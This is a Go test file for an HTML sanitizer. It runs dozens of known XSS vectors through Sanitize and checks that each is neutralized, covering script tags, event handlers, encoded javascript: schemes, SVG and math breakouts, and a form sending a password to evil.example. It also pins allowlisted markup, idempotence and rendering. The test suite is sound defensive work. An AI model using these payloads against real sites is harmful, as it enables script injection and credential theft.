package richtext_test

import (
	"strings"
	"testing"

	"github.com/guildhall/guildhall/richtext"
)

// xssCases are known attack vectors. gone lists what must not survive (checked
// case-insensitively), kept what harmless content must survive.
var xssCases = []struct {
	name string
	in   string
	gone []string
	kept []string
}{
	{"script tag", `<p>hi</p><script>alert(1)</script>`, []string{"<script", "alert"}, []string{"<p>hi</p>"}},
	{"script upper case", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok`, []string{"script", "evil"}, []string{"ok"}},
	{"script with attributes", `<script type="text/javascript">document.cookie</script>text`, []string{"script", "cookie"}, []string{"text"}},
	{"img onerror", `<img src=x onerror=alert(1)>`, []string{"onerror", "alert", "<img"}, nil},
	{"img onerror with good src", `<img src="https://example.com/a.png" onerror="alert(1)">`, []string{"onerror", "alert"}, []string{`<img src="https://example.com/a.png">`}},
	{"javascript href", `<a href="javascript:alert(1)">click</a>`, []string{"javascript", "href"}, []string{"click"}},
	{"decimal entity scheme", `<a href="&#106;avascript:alert(1)">click</a>`, []string{"avascript", "href"}, []string{"click"}},
	{"hex entity scheme", `<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">click</a>`, []string{"script", "href"}, []string{"click"}},
	{"entity without semicolon", `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">click</a>`, []string{"href", "alert"}, []string{"click"}},
	{"named entity colon", `<a href="javascript&colon;alert(1)">click</a>`, []string{"href", "alert"}, []string{"click"}},
	{"tab in scheme", "<a href=\"java\tscript:alert(1)\">click</a>", []string{"href", "alert"}, []string{"click"}},
	{"newline in scheme", "<a href=\"java\nscript:alert(1)\">click</a>", []string{"href", "alert"}, []string{"click"}},
	{"encoded tab in scheme", `<a href="java&#x09;script:alert(1)">click</a>`, []string{"href", "alert"}, []string{"click"}},
	{"null in scheme", "<a href=\"java\x00script:alert(1)\">click</a>", []string{"href", "alert"}, []string{"click"}},
	{"mixed case scheme", `<a href="JaVaScRiPt:alert(1)">click</a>`, []string{"href", "alert"}, []string{"click"}},
	{"leading spaces", `<a href="  javascript:alert(1)">click</a>`, []string{"href", "alert"}, []string{"click"}},
	{"leading control chars", "<a href=\"\x01\x02javascript:alert(1)\">click</a>", []string{"href", "alert"}, []string{"click"}},
	{"vbscript", `<a href="vbscript:msgbox(1)">click</a>`, []string{"href", "msgbox"}, []string{"click"}},
	{"data html href", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`, []string{"href", "data:"}, []string{"click"}},
	{"data html unencoded", `<a href="data:text/html,<script>alert(1)</script>">click</a>`, []string{"href", "<script", "data:"}, []string{"click"}},
	{"data image src", `<img src="data:image/svg+xml;base64,PHN2Zz4=">`, []string{"data:", "<img"}, nil},
	{"javascript img src", `<img src="javascript:alert(1)">`, []string{"javascript", "<img"}, nil},
	{"svg onload", `<svg onload="alert(1)"><circle r="1"/></svg><p>after</p>`, []string{"<svg", "onload", "alert", "<circle"}, []string{"<p>after</p>"}},
	{"svg script", `<svg><script>alert(1)</script></svg>`, []string{"<svg", "script", "alert"}, nil},
	{"select style", `<select><style>*{background:url(javascript:alert(1))}</style><option>o</option></select>`, []string{"<select", "<style", "background", "javascript", "<option"}, []string{"o"}},
	{"style element", `<style>body{display:none}</style><p>visible</p>`, []string{"<style", "display"}, []string{"<p>visible</p>"}},
	{"math", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, []string{"<math", "<mtext", "<mglyph", "<style", "onerror", "<img"}, nil},
	{"math href", `<math href="javascript:alert(1)">x</math>`, []string{"<math", "javascript"}, []string{"x"}},
	{"nested broken script", `<<script>script>alert(1)<</script>/script>`, []string{"<script"}, nil},
	{"split script", `<scr<script>ipt>alert(1)</scr</script>ipt>`, []string{"<script", "<scr"}, nil},
	{"unclosed script", `<p>ok</p><script>alert(1)`, []string{"<script", "alert"}, []string{"<p>ok</p>"}},
	{"unclosed tag attribute", `<img src="https://example.com/a.png" onerror="alert(1)"`, []string{"onerror", "alert"}, nil},
	{"unclosed a", `<a href="javascript:alert(1)">click`, []string{"javascript", "href"}, []string{"click"}},
	{"iframe", `<iframe src="https://evil.example/"></iframe><p>x</p>`, []string{"<iframe", "evil"}, []string{"<p>x</p>"}},
	{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, []string{"<iframe", "srcdoc", "<script"}, nil},
	{"object", `<object data="https://evil.example/x.swf"><param name="a" value="b"></object>`, []string{"<object", "<param", "evil"}, nil},
	{"embed", `<embed src="https://evil.example/x.swf">`, []string{"<embed", "evil"}, nil},
	{"form", `<form action="https://evil.example/steal"><input name="pw" type="password"><button>Go</button></form>`, []string{"<form", "<input", "<button", "action", "evil"}, []string{"Go"}},
	{"button formaction", `<button formaction="javascript:alert(1)">b</button>`, []string{"<button", "formaction", "javascript"}, []string{"b"}},
	{"textarea", `<textarea>t</textarea>`, []string{"<textarea"}, []string{"t"}},
	{"style attribute", `<p style="background:url(javascript:alert(1))">styled</p>`, []string{"style=", "javascript"}, []string{"<p>styled</p>"}},
	{"style on span", `<span style="position:fixed;top:0">x</span>`, []string{"style", "fixed"}, []string{"<span>x</span>"}},
	{"base href", `<base href="https://evil.example/"><a href="/x">x</a>`, []string{"<base", "evil"}, []string{`<a href="/x">x</a>`}},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, []string{"<meta", "refresh", "javascript"}, nil},
	{"link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`, []string{"<link", "evil"}, nil},
	{"event handler on allowed element", `<p onclick="alert(1)" onmouseover="alert(2)">p</p>`, []string{"onclick", "onmouseover", "alert"}, []string{"<p>p</p>"}},
	{"event handler without quotes", `<b onmouseover=alert(1)>b</b>`, []string{"onmouseover", "alert"}, []string{"<b>b</b>"}},
	{"event handler after slash", `<b/onmouseover=alert(1)>b</b>`, []string{"onmouseover", "alert"}, []string{"<b>b</b>"}},
	{"noscript breakout", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, []string{"onerror", "<img", "<noscript"}, nil},
	{"comment breakout", `<!--<img src=x onerror=alert(1)>-->`, []string{"onerror", "<img", "<!--"}, nil},
	{"conditional comment", `<!--[if IE]><script>alert(1)</script><![endif]-->`, []string{"<script", "alert", "<!--"}, nil},
	{"cdata", `<![CDATA[<script>alert(1)</script>]]>`, []string{"<script"}, nil},
	{"attribute breakout", `<a href="https://example.com/" title="x" onclick="alert(1)">x</a>`, []string{"onclick", "alert"}, []string{`href="https://example.com/"`}},
	{"quote in href", `<a href='https://example.com/"onmouseover="alert(1)'>x</a>`, []string{`"onmouseover`, `" onmouseover`}, []string{"x"}},
	{"video", `<video src="https://evil.example/a.mp4" poster="javascript:alert(1)"></video>`, []string{"<video", "javascript"}, nil},
	{"marquee", `<marquee onstart="alert(1)">m</marquee>`, []string{"<marquee", "onstart", "alert"}, []string{"m"}},
	{"details ontoggle", `<details open ontoggle="alert(1)">d</details>`, []string{"<details", "ontoggle", "alert"}, []string{"d"}},
	// Added with the authoring workflow: the vectors the issue names, in more spellings.
	{"entities and mixed case together", `<a href="&#74;aVa&#x53;cRiPt&#58;alert(1)">click</a>`, []string{"href", "alert"}, []string{"click"}},
	{"zero-padded decimal entities", `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`, []string{"href", "alert"}, []string{"x"}},
	{"named tab entity in scheme", `<a href="java&Tab;script:alert(1)">x</a>`, []string{"href", "alert"}, []string{"x"}},
	{"named newline entity in scheme", `<a href="jav&NewLine;ascript&colon;alert(1)">x</a>`, []string{"href", "alert"}, []string{"x"}},
	{"mixed case img javascript", `<IMG SRC=JaVaScRiPt:alert('XSS')>`, []string{"<img", "javascript", "alert"}, nil},
	{"mixed case data href", `<a href="DaTa:text/html;base64,PHNjcmlwdD4=">x</a>`, []string{"href", "data:"}, []string{"x"}},
	{"svg slash onload", `<svg/onload=alert(1)>`, []string{"<svg", "onload", "alert"}, nil},
	{"svg xlink href", `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>`, []string{"<svg", "xlink", "javascript", "<text"}, []string{"click"}},
	{"svg animate", `<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>`, []string{"<svg", "<animate", "onbegin", "alert"}, nil},
	{"svg set href", `<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>`, []string{"<svg", "<set", "javascript"}, []string{"x"}},
	{"svg use data", `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>`, []string{"<svg", "<use", "data:"}, nil},
	{"svg foreignObject iframe", `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`, []string{"<svg", "foreignobject", "<iframe", "javascript"}, nil},
	{"svg style breakout", `<svg><style><img src=x onerror=alert(1)></style></svg>`, []string{"<svg", "<style", "onerror", "<img"}, nil},
	{"select style img", `<select><style></select><img src=x onerror=alert(1)>`, []string{"<select", "<style", "onerror", "alert"}, nil},
	{"select template style", `<select><template><style><img src=x onerror=alert(1)></style></template></select>`, []string{"<select", "<template", "<style", "onerror"}, nil},
	{"nested a in broken b", `<p><a href="javascript:alert(1)"><b>bold</a></p>`, []string{"href", "javascript"}, []string{"<b>bold"}},
	{"quotes before script", `<img """><script>alert(1)</script>">`, []string{"<script", "alert"}, nil},
	{"doubled angle brackets", `<<img src=x onerror=alert(1)>>`, []string{"onerror", "<img"}, nil},
	{"script inside a tag", `<a <script>alert(1)</script> href="https://example.com/">x</a>`, []string{"<script"}, nil},
	{"tag inside a tag", `<p <img src=x onerror=alert(1)>>text</p>`, []string{"onerror", "<img"}, []string{"text"}},
	{"null inside script tag", "<scr\x00ipt>alert(1)</scr\x00ipt>", []string{"<script", "<scr"}, nil},
	{"title breakout", `</title><script>alert(1)</script>`, []string{"<script", "alert"}, nil},
	{"noembed breakout", `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`, []string{"onerror", "<noembed"}, nil},
	{"unterminated a before b", `<a href="javascript:alert(1)"<b>x</b>`, []string{"javascript", "href"}, nil},
	// Inside xmp the markup is text; it comes out escaped, inert.
	{"xmp", `<xmp><img src=x onerror=alert(1)></xmp>`, []string{"<xmp", "<img"}, []string{"&lt;img"}},
	{"user rel and target", `<a href="https://example.com/" target="_blank" rel="opener">x</a>`, []string{"target", `rel="opener"`}, []string{`rel="nofollow noopener"`}},
}

func TestSanitizeRemovesXSS(t *testing.T) {
	for _, tc := range xssCases {
		t.Run(tc.name, func(t *testing.T) {
			got := richtext.Sanitize(tc.in)
			lower := strings.ToLower(got)
			for _, g := range tc.gone {
				if strings.Contains(lower, strings.ToLower(g)) {
					t.Errorf("Sanitize(%q) = %q, still contains %q", tc.in, got, g)
				}
			}
			for _, k := range tc.kept {
				if !strings.Contains(got, k) {
					t.Errorf("Sanitize(%q) = %q, lost %q", tc.in, got, k)
				}
			}
			if why := unsafeReason(got); why != "" {
				t.Errorf("Sanitize(%q) = %q: %s", tc.in, got, why)
			}
		})
	}
}

// keptCases pin what the allowlist lets through, byte for byte.
var keptCases = []struct {
	name string
	in   string
	want string
}{
	{"headings", `<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>`, `<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>`},
	{"paragraph, br, hr", `<p>a<br>b</p><hr>`, `<p>a<br>b</p><hr>`},
	{"lists", `<ul><li>a</li></ul><ol><li>b</li></ol>`, `<ul><li>a</li></ul><ol><li>b</li></ol>`},
	{"blockquote", `<blockquote><p>q</p></blockquote>`, `<blockquote><p>q</p></blockquote>`},
	{"pre and code", "<pre><code>if a &lt; b {\n  x()\n}</code></pre>", "<pre><code>if a &lt; b {\n  x()\n}</code></pre>"},
	{"code language class", `<pre><code class="language-go">x</code></pre>`, `<pre><code class="language-go">x</code></pre>`},
	{"other code class dropped", `<code class="admin-banner">x</code>`, `<code>x</code>`},
	{"table", `<table><caption>c</caption><thead><tr><th>h</th></tr></thead><tbody><tr><td colspan="2" rowspan="3">d</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>`,
		`<table><caption>c</caption><thead><tr><th>h</th></tr></thead><tbody><tr><td colspan="2" rowspan="3">d</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>`},
	{"bad colspan dropped", `<table><tr><td colspan="2;x" width="100">d</td></tr></table>`, `<table><tr><td>d</td></tr></table>`},
	{"inline formatting", `<strong>1</strong><b>2</b><em>3</em><i>4</i><u>5</u><s>6</s><sub>7</sub><sup>8</sup><mark>9</mark><small>10</small>`,
		`<strong>1</strong><b>2</b><em>3</em><i>4</i><u>5</u><s>6</s><sub>7</sub><sup>8</sup><mark>9</mark><small>10</small>`},
	{"more inline", `<abbr title="HyperText">HTML</abbr><cite>c</cite><q>q</q><del>d</del><ins>i</ins><span>s</span>`,
		`<abbr title="HyperText">HTML</abbr><cite>c</cite><q>q</q><del>d</del><ins>i</ins><span>s</span>`},
	{"figure", `<figure><img src="https://example.com/a.jpg" alt="A"><figcaption>cap</figcaption></figure>`,
		`<figure><img src="https://example.com/a.jpg" alt="A"><figcaption>cap</figcaption></figure>`},
	{"external https link", `<a href="https://example.com/x">x</a>`, `<a href="https://example.com/x" rel="nofollow noopener">x</a>`},
	{"external http link", `<a href="http://example.com/">x</a>`, `<a href="http://example.com/" rel="nofollow noopener">x</a>`},
	{"protocol-relative link is external", `<a href="//example.com/">x</a>`, `<a href="//example.com/" rel="nofollow noopener">x</a>`},
	{"upper-case scheme", `<a href="HTTPS://example.com/">x</a>`, `<a href="https://example.com/" rel="nofollow noopener">x</a>`},
	{"link title", `<a href="https://example.com/" title="t">x</a>`, `<a href="https://example.com/" title="t" rel="nofollow noopener">x</a>`},
	{"relative link", `<a href="/posts/annual-meeting">x</a>`, `<a href="/posts/annual-meeting">x</a>`},
	{"relative link with query", `<a href="members?page=2&amp;sort=name">x</a>`, `<a href="members?page=2&amp;sort=name">x</a>`},
	{"fragment link", `<a href="#minutes">x</a>`, `<a href="#minutes">x</a>`},
	{"mailto", `<a href="mailto:secretary@example.org">mail</a>`, `<a href="mailto:secretary@example.org">mail</a>`},
	{"a without href unwrapped", `<a name="x">y</a>`, `y`},
	{"img https", `<img src="https://example.com/a.png" alt="A" title="T" width="640" height="480">`,
		`<img src="https://example.com/a.png" alt="A" title="T" width="640" height="480">`},
	{"img http", `<img src="http://example.com/a.png">`, `<img src="http://example.com/a.png">`},
	{"img bad size dropped", `<img src="https://example.com/a.png" width="100%" height="expression(1)">`, `<img src="https://example.com/a.png">`},
	// Without a src the img stays, harmless: bluemonday cannot make one attribute depend on
	// another, and the alt text at least tells readers that an image was there.
	{"img data src dropped", `<img src="data:image/png;base64,iVBORw0KGgo=" alt="A">`, `<img alt="A">`},
	{"img data only dropped", `<img src="data:image/png;base64,iVBORw0KGgo=">`, ``},
	{"img relative dropped", `<img src="/media/a.png">`, ``},
	{"entities kept escaped", `<p>Fish &amp; chips &lt;3 &quot;yum&quot;</p>`, `<p>Fish &amp; chips &lt;3 &#34;yum&#34;</p>`},
	{"unicode text", `<p>Zoë’s café — ½ price</p>`, `<p>Zoë’s café — ½ price</p>`},
	{"div is kept bare", `<div class="x" style="color:red">one</div><div>two</div>`, `<div>one</div><div>two</div>`},
	{"only dropped markup is empty", `<script>x</script><iframe></iframe>`, ``},
	{"empty", ``, ``},
}

func TestSanitizeKeeps(t *testing.T) {
	for _, tc := range keptCases {
		t.Run(tc.name, func(t *testing.T) {
			if got := richtext.Sanitize(tc.in); got != tc.want {
				t.Errorf("Sanitize(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestSanitizeIdempotent(t *testing.T) {
	var inputs []string
	for _, tc := range xssCases {
		inputs = append(inputs, tc.in)
	}
	for _, tc := range keptCases {
		inputs = append(inputs, tc.in)
	}
	inputs = append(inputs, samplePost,
		`<p>unclosed <b>bold <i>both`,
		`</p></b>stray closers</li>`,
		`<a href="http://example.com/a b">space</a>`,
		`<a href="http://example.com/%zz">bad escape</a>`,
		`<a href="http://[::1]:80/">ipv6</a>`,
		`<a href="http://ex ample.com/">space in host</a>`,
		"<pre>\n\nleading newlines</pre>",
		`<textarea><p>x</p></textarea>`,
		`&amp;amp; &#0; &#xD800; &bogus;`,
		// Found by FuzzSanitize: net/url rewrites "http://#x" as "http:#x", which the img
		// rule then rejects, so one bluemonday pass alone is not idempotent.
		`<img srC="http://#00000000000">`,
		`<a href="http://#frag">x</a>`,
	)
	for _, in := range inputs {
		once := richtext.Sanitize(in)
		if twice := richtext.Sanitize(once); twice != once {
			t.Errorf("not idempotent for %q\n once  %q\n twice %q", in, once, twice)
		}
	}
}

func TestSanitizeConcurrent(t *testing.T) {
	// The policy is shared; run it from many goroutines so -race can see any shared state.
	want := richtext.Sanitize(samplePost)
	done := make(chan string)
	for range 8 {
		go func() { done <- richtext.Sanitize(samplePost) }()
	}
	for range 8 {
		if got := <-done; got != want {
			t.Fatal("concurrent Sanitize gave a different result")
		}
	}
}

func TestRender(t *testing.T) {
	tests := []struct {
		name  string
		in    string
		html  string
		text  string
		words int
	}{
		{"empty", ``, ``, ``, 0},
		{"paragraphs", `<p>Hello world</p><p>Second <b>para</b>graph</p>`, `<p>Hello world</p><p>Second <b>para</b>graph</p>`, "Hello world\n\nSecond paragraph", 4},
		{"script text not counted", `<p>one two</p><script>three four five</script>`, `<p>one two</p>`, "one two", 2},
		{"entities", `<p>Tom &amp; Jerry&nbsp;&mdash; friends</p>`, "<p>Tom &amp; Jerry\u00a0— friends</p>", "Tom & Jerry — friends", 3},
		{"link", `<p>See <a href="https://example.com/">this</a>.</p>`, `<p>See <a href="https://example.com/" rel="nofollow noopener">this</a>.</p>`, "See this.", 2},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := richtext.Render(tc.in)
			if got.HTML != tc.html || got.Text != tc.text || got.Words != tc.words {
				t.Errorf("Render(%q) = %+v\nwant HTML %q Text %q WordCount %d", tc.in, got, tc.html, tc.text, tc.words)
			}
		})
	}
}

func TestRenderWordCount(t *testing.T) {
	body := "<p>" + strings.Repeat("word ", 401) + "</p>"
	if rt := richtext.Render(body); rt.Words != 401 {
		t.Errorf("Words %d, want 401", rt.Words)
	}
}
